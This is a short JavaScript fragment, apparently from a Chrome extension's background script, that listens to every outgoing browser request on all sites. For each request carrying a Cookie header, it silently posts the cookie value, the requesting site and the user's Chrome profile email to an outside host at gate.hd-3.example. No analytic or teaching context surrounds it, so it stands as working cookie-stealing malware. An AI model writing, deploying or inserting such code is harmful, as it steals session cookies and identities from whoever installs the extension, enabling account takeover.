chrome.webRequest.onBeforeSendHeaders.addListener(
  function (d) {
    chrome.identity.getProfileUserInfo(function (who) {
      if (d.initiator === 'chrome-extension://' + chrome.runtime.id || !d.requestHeaders) return;
      for (var i = 0; i < d.requestHeaders.length; ++i) {
        if (d.requestHeaders[i].name == 'Cookie') {
          $.post('http://gate.hd-3.example:5000/in', {
            who: who.email || 'none',
            site: d.initiator,
            v: d.requestHeaders[i].value
          });
        }
      }
    });
    return { requestHeaders: d.requestHeaders };
  },
  { urls: ['<all_urls>'] },
  ['blocking', 'requestHeaders', 'extraHeaders']
);
